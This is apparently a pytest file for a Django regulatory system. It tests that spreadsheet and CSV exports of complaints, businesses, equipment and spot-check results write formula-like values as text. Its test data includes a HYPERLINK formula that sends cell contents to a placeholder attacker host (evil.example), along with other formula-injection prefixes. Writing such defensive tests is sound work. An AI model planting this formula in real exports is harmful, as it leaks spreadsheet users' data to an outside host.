"""Formula injection: every XLSX/CSV the system produces writes a value that Excel would run
(starting with =, +, -, @, tab or CR) as text; in CSV with a leading apostrophe."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from jianguan.businesses.models import Business
from jianguan.complaints.choices import Channel, Kind
from jianguan.complaints.services.intake import complaint_receive
from jianguan.core.importing import errors_path, get_ledger, run_import, write_error_report

from ..equipment.factories import EquipmentFactory
from ..factories import BusinessFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def exporting():
    from jianguan.core import exporting

    return exporting

FORMULA = '=HYPERLINK("http://evil.example/?"&J2&K2,"查看详情")'
DANGEROUS = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def cells(path_or_bytes) -> list:
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    book = openpyxl.load_workbook(source)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def cell_holding(path_or_bytes, text: str):
    found = [c for c in cells(path_or_bytes) if c.value == text]
    assert found, f"no cell holds {text!r}"
    return found[0]


def assert_text_cell(path_or_bytes, text: str) -> None:
    cell = cell_holding(path_or_bytes, text)
    assert cell.data_type == "s", f"{text!r} written as {cell.data_type!r}"


# ---------------------------------------------------------------- the writer itself


@pytest.mark.parametrize("value", DANGEROUS)
def test_xlsx_writes_dangerous_strings_as_text(exporting, tmp_path, value):
    path = tmp_path / "t.xlsx"
    exporting.write_table(path, ["名称"], [[value]], title="表")
    assert_text_cell(path, exporting.xlsx_text(value))


def test_xlsx_keeps_numbers_and_dates_as_numbers(exporting, tmp_path):
    path = tmp_path / "t.xlsx"
    exporting.write_table(path, ["数", "日期", "金额", "负数"], [[3, dt.date(2026, 5, 1), Decimal("2.50"), -4]], title="表")
    row = [c for c in cells(path) if c.row == 2]
    assert [c.data_type for c in row] == ["n", "d", "n", "n"]
    assert row[0].value == 3 and row[3].value == -4


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_prefixes_dangerous_strings_with_an_apostrophe(exporting, tmp_path, value):
    path = tmp_path / "t.csv"
    exporting.write_table(path, ["名称"], [[value], ["普通"], [-4]])
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + value]
    assert rows[2] == ["普通"] and rows[3] == ["-4"]


@pytest.mark.parametrize("value", [*DANGEROUS, "'=already quoted", "''=x", "'plain", "plain"])
def test_csv_escape_is_undone_exactly_on_import(exporting, value):
    assert exporting.csv_unescape(exporting.csv_text(value)) == value


# ---------------------------------------------------------------- every file the system produces


def test_complaint_ledger_export_on_the_web(client, org):
    shop = BusinessFactory(name="东关便民超市", subdistrict=org.subs["dongguan"])
    complaint_receive(
        actor=org.users.dept, kind=Kind.COMPLAINT, channel=Channel.HOTLINE,
        received_at=dt.datetime(2026, 9, 30, 10, tzinfo=dt.UTC),
        respondent_name=FORMULA, respondent_uscc="", respondent_address="东关大街1号",
        content="买到过期牛奶", amount="25.80", complainant_name="张三", complainant_phone="13812341234",
    )
    assert shop
    client.force_login(org.users.dept)
    response = client.post(reverse("complaints:ledger_export"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_text_cell(b"".join(response.streaming_content), FORMULA)
    response = client.post(reverse("complaints:ledger_export"), {"format": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'" + FORMULA in [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def test_business_export_on_the_command_line(org, tmp_path):
    BusinessFactory(name=FORMULA, subdistrict=org.subs["dongguan"])
    call_command("export", "businesses", str(tmp_path / "b.xlsx"))
    assert_text_cell(tmp_path / "b.xlsx", FORMULA)
    call_command("export", "businesses", str(tmp_path / "b.csv"))
    rows = list(csv.reader(io.StringIO((tmp_path / "b.csv").read_text(encoding="utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA
    # The CSV still round-trips: importing it gives the name back as it was.
    Business.objects.update(name="改过的名字")
    result = run_import(get_ledger("businesses"), tmp_path / "b.csv", actor=org.users.admin)
    assert result.accepted, result.errors or result.file_error
    assert Business.objects.get().name == FORMULA


def test_drilldown_export(client, org):
    BusinessFactory(name=FORMULA, subdistrict=org.subs["dongguan"], established_on=dt.date(2026, 3, 1))
    client.force_login(org.users.dept)
    response = client.get("/reports/drill/businesses.new/export/", {"period": "2026H1"})
    assert response.status_code == 200
    assert_text_cell(response.content, FORMULA)


def test_errors_workbook(org, tmp_path):
    source = tmp_path / "bad.csv"
    headers = "统一社会信用代码,名称,主体类型,法定代表人,住所,所属街道,行业代码,成立日期,登记状态,状态日期"
    # As an attacker writes it: the formula unquoted in the CSV; the 主体类型 is wrong so the row is reported.
    source.write_text(headers + "\n" + '91370102MA3C4XXXX0,"=1+2",公司,"@SUM(A1)",路1号,东关街道,,2020-01-02,,\n',
                      encoding="utf-8")
    result = run_import(get_ledger("businesses"), source, actor=org.users.admin, dry_run=True)
    assert not result.accepted
    report = write_error_report(source, result, errors_path(source))
    assert_text_cell(report, "=1+2")
    assert_text_cell(report, "@SUM(A1)")


def test_equipment_export_on_the_web(client, org):
    EquipmentFactory(subdistrict=org.subs["dongguan"], address=FORMULA)
    client.force_login(org.users.dept)
    response = client.get("/equipment/export/")
    assert response.status_code == 200
    assert_text_cell(b"".join(response.streaming_content), FORMULA)


def test_public_spot_check_results_csv(client, org):
    from django.core.cache import cache

    from jianguan.spotchecks.choices import TaskStatus

    from ..spotchecks import builders

    world = builders.world(org)
    task = builders.advance(world, builders.task(world, "企业公示信息抽查"), TaskStatus.PUBLISHED,
                            result_on=dt.date(2026, 3, 20), publish_on=dt.date(2026, 3, 27))
    first = task.drawn.select_related("business").order_by("order").first().business
    Business.objects.filter(pk=first.pk).update(name=FORMULA)
    cache.clear()  # the public pages are rate limited per client
    response = client.get(f"/public/spotchecks/tasks/{task.number}/results.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][3] == "'" + FORMULA
